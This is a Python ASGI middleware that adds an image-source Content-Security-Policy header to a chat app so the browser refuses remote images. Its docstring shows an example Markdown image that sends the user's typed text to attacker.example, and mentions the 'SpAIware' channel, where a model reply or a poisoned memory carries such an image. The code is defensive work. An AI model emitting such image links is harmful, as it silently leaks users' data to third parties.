"""Egress control for what the chat renders: images only from this app.

A reply (or a quoted memory) can contain Markdown like `![](https://attacker.example/?q=<what you
typed>)`; a browser that renders it sends the data away without a click (the "SpAIware" channel, see
the safety notes). Every response therefore carries `Content-Security-Policy: img-src 'self' data:
blob:`, so the browser refuses remote images. Links still work: they need a click, and open in a new tab.
"""

from __future__ import annotations

POLICY = b"img-src 'self' data: blob:"


class ImagesFromThisAppOnly:
    """A plain ASGI middleware (it leaves websockets and streamed responses untouched)."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                if not any(name.lower() == b"content-security-policy" for name, _ in headers):
                    headers.append((b"content-security-policy", POLICY))
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_policy)
